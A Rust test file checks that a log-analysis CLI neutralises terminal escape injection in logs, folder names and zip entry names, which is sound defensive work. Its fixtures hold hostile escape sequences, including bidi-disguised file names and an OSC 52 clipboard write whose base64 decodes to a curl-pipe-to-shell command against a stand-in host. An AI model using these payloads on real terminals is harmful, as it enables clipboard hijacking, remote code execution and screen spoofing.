//! Terminal injection: log text, host folder names, file names and zip entry names holding escape sequences
//! (CSI, OSC 0 titles, OSC 52 clipboard writes), C1 controls, BEL, backspace, CR and bidi overrides never
//! reach stdout or stderr raw in any human-readable output (text with and without colour, the timeline,
//! Markdown, HTML, JUnit, `trace`, `error`, stderr messages); they are shown as visible escapes. JSON keeps
//! the exact characters.

use std::ffi::OsStr;
use std::io::Write;
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};

use crate::common::cmtrace;

const FIXTURE: &str = "fixtures/hostile/escapes";
const TENANT: &str = "2ca9a796-a1a6-43ec-88f1-5935b32155c5";

fn fixture_log() -> Vec<u8> {
    std::fs::read(Path::new(FIXTURE).join("DESKTOP-X1/Windows/ccmsetup/Logs/ccmsetup.log")).unwrap()
}

/// A temp dir with a host folder and a file name holding ESC and BEL, and a zip whose entry names do.
fn hostile_dir() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let host = dir.path().join(OsStr::from_bytes(b"PC-\x1b]0;pwned\x07"));
    std::fs::create_dir_all(&host).unwrap();
    std::fs::write(host.join("ccmsetup.log"), fixture_log()).unwrap();
    // Not a log: an unreadable input whose name is hostile (listed as not read).
    std::fs::write(
        host.join(OsStr::from_bytes(b"junk\x1b[2J\x07\xc2\x9b.log")),
        b"\x00\x01\x02garbage\x1b[5m",
    )
    .unwrap();
    let zip_file = std::fs::File::create(dir.path().join("bundle.zip")).unwrap();
    let mut zip = zip::ZipWriter::new(zip_file);
    let opts = zip::write::SimpleFileOptions::default();
    zip.start_file("ZIP-\x1b[2J\x07\u{202e}/ccmsetup.log", opts).unwrap();
    zip.write_all(&fixture_log()).unwrap();
    zip.start_file("ZIP-\x1b[2J\x07\u{202e}/evil\x1b]52;c;aGk=\x07.log", opts).unwrap();
    zip.write_all(b"\x00\x01 not a log \x1b]0;x\x07").unwrap();
    zip.finish().unwrap();
    dir
}

struct Out {
    stdout: Vec<u8>,
    stderr: Vec<u8>,
    code: i32,
}

fn run(args: &[&OsStr]) -> Out {
    let out = cmtrace().env_remove("NO_COLOR").env("COLUMNS", "240").args(args).output().unwrap();
    Out { stdout: out.stdout, stderr: out.stderr, code: out.status.code().unwrap() }
}

/// No C0 control but `\n` and `\t` (with `sgr`, ESC only as `ESC [` digits/`;` `m`), no C1, no bidi
/// override or isolate, valid UTF-8.
fn assert_clean(what: &str, bytes: &[u8], sgr: bool) {
    let mut i = 0;
    while i < bytes.len() {
        let b = bytes[i];
        if b == 0x1b && sgr && bytes.get(i + 1) == Some(&b'[') {
            let mut j = i + 2;
            while j < bytes.len() && (bytes[j].is_ascii_digit() || bytes[j] == b';') {
                j += 1;
            }
            assert_eq!(
                bytes.get(j),
                Some(&b'm'),
                "{what}: ESC not an SGR sequence at {i}: {:?}",
                context(bytes, i)
            );
            i = j + 1;
            continue;
        }
        assert!(
            b >= 0x20 && b != 0x7f || b == b'\n' || b == b'\t',
            "{what}: control byte 0x{b:02x} at {i}: {:?}",
            context(bytes, i)
        );
        i += 1;
    }
    let text = std::str::from_utf8(bytes).unwrap_or_else(|e| panic!("{what}: not UTF-8: {e}"));
    for c in text.chars() {
        assert!(
            !('\u{80}'..='\u{9f}').contains(&c)
                && !('\u{202a}'..='\u{202e}').contains(&c)
                && !('\u{2066}'..='\u{2069}').contains(&c),
            "{what}: U+{:04X} in the output",
            c as u32
        );
    }
}

fn context(bytes: &[u8], i: usize) -> String {
    String::from_utf8_lossy(&bytes[i.saturating_sub(40)..(i + 40).min(bytes.len())]).into_owned()
}

fn inputs(dir: &Path) -> Vec<PathBuf> {
    vec![
        PathBuf::from(FIXTURE),
        dir.to_path_buf(),
        // Does not exist: reported on stderr with its hostile name (the byte that is not UTF-8 comes back
        // as U+FFFD from the path's lossy conversion).
        dir.join(OsStr::from_bytes(b"missing\x1b]0;gone\x07\x9b")),
    ]
}

fn analyze(paths: &[PathBuf], extra: &[&str]) -> Out {
    let mut args: Vec<&OsStr> = vec![OsStr::new("analyze")];
    args.extend(paths.iter().map(|p| p.as_os_str()));
    args.extend(extra.iter().map(OsStr::new));
    run(&args)
}

#[test]
fn human_outputs_never_carry_control_characters() {
    let dir = hostile_dir();
    let paths = inputs(dir.path());
    for (name, extra, sgr) in [
        ("text", &["--color", "never", "--timeline"][..], false),
        ("text colour", &["--color", "always", "--timeline"][..], true),
        ("markdown", &["--format", "markdown", "--timeline"][..], false),
        ("html", &["--format", "html", "--timeline"][..], false),
        ("junit", &["--format", "junit"][..], false),
    ] {
        let out = analyze(&paths, extra);
        assert_eq!(out.code, 1, "{name}: install-failed is an error");
        assert_clean(&format!("{name} stdout"), &out.stdout, sgr);
        assert_clean(&format!("{name} stderr"), &out.stderr, false);
        let text = String::from_utf8(out.stdout).unwrap();
        let stderr = String::from_utf8(out.stderr).unwrap();
        assert!(stderr.contains("missing\\x1b]0;gone\\x07"), "{name}: the missing path, shown: {stderr}");
        assert!(text.contains("PC-\\x1b]0;pwned\\x07"), "{name}: the host, shown");
        // Markdown doubles a backslash in table cells so that it shows as one.
        let text = if name == "markdown" { text.replace("\\\\", "\\") } else { text };
        if name != "junit" {
            // The messages are in the timeline, their escapes shown.
            assert!(text.contains("\\x1b]0;owned\\x07"), "{name}");
            assert!(text.contains("\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07"), "{name}");
            assert!(text.contains("\\u{9b}2J\\u{202e}gnp.exe\\u{202c}"), "{name}");
            assert!(text.contains("ZIP-\\x1b[2J\\x07\\u{202e}"), "{name}: zip entry host");
        }
        if name == "markdown" {
            assert!(!text.contains("<script"), "no raw HTML");
        }
        if name == "html" {
            assert_eq!(text.matches("<script").count(), 1, "the page's own script only");
        }
        if name == "junit" {
            let mut reader = quick_xml::Reader::from_str(&text);
            loop {
                match reader.read_event().expect("well-formed XML") {
                    quick_xml::events::Event::Eof => break,
                    _ => continue,
                }
            }
            assert!(text.contains("junk\\x1b[2J\\x07\\u{9b}.log"), "the unreadable input's case");
        }
    }
}

#[test]
fn trace_error_and_parse_stderr_are_clean() {
    let dir = hostile_dir();
    let paths = inputs(dir.path());
    let mut args: Vec<&OsStr> = vec![OsStr::new("trace"), OsStr::new(TENANT)];
    args.extend(paths.iter().map(|p| p.as_os_str()));
    let out = run(&args);
    assert_eq!(out.code, 0);
    assert_clean("trace stdout", &out.stdout, false);
    assert_clean("trace stderr", &out.stderr, false);
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("\\x1b]0;owned\\x07"), "{text}");
    assert!(text.contains("PC-\\x1b]0;pwned\\x07"));

    // A trace id that matches nothing, echoed on stderr.
    let mut args: Vec<&OsStr> = vec![OsStr::new("trace"), OsStr::from_bytes(b"nothing\x1b]0;t\x07")];
    args.push(paths[0].as_os_str());
    let out = run(&args);
    assert_eq!(out.code, 1);
    assert_clean("trace miss stderr", &out.stderr, false);

    let out = run(&[OsStr::new("error"), OsStr::from_bytes(b"0x80190194\x1b[2J"), OsStr::new("0x80190194")]);
    assert_clean("error stdout", &out.stdout, false);
    assert_clean("error stderr", &out.stderr, false);
    assert!(String::from_utf8(out.stdout).unwrap().contains("0x80190194\\x1b[2J"));

    let out = run(&[OsStr::new("rules")]);
    assert_clean("rules stdout", &out.stdout, false);

    let mut args: Vec<&OsStr> = vec![OsStr::new("parse")];
    args.extend(paths.iter().map(|p| p.as_os_str()));
    let out = run(&args);
    assert_clean("parse stderr", &out.stderr, false);
    assert!(String::from_utf8(out.stderr).unwrap().contains("missing\\x1b]0;gone\\x07"));
}

#[test]
fn json_keeps_the_exact_text() {
    let dir = hostile_dir();
    let paths = inputs(dir.path());
    let out = analyze(&paths, &["--format", "json", "--timeline"]);
    assert_clean("json stderr", &out.stderr, false);
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let texts: Vec<&str> =
        doc["timeline"].as_array().unwrap().iter().filter_map(|e| e["text"].as_str()).collect();
    assert!(texts.iter().any(|t| t.contains("Failed to download client files \x1b]0;owned\x07 from")));
    assert!(texts
        .iter()
        .any(|t| t.contains("\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 failed \u{9b}2J\u{202e}gnp.exe")));
    let hosts: Vec<&str> =
        doc["inputs"].as_array().unwrap().iter().filter_map(|i| i["host"].as_str()).collect();
    // A folder or zip entry name holding control characters is never taken as a host name (the
    // host falls back to a folder above it); the paths keep the exact characters.
    assert!(!hosts.iter().any(|h| h.contains('\x1b')), "{hosts:?}");
    assert!(hosts.contains(&"DESKTOP-X1"), "{hosts:?}");
    let paths: Vec<&str> =
        doc["inputs"].as_array().unwrap().iter().filter_map(|i| i["path"].as_str()).collect();
    assert!(paths.iter().any(|p| p.ends_with("junk\x1b[2J\x07\u{9b}.log")), "{paths:?}");
    assert!(paths.iter().any(|p| p.contains("PC-\x1b]0;pwned\x07")), "{paths:?}");
    assert!(paths.iter().any(|p| p.contains("ZIP-\x1b[2J\x07\u{202e}")), "{paths:?}");
}
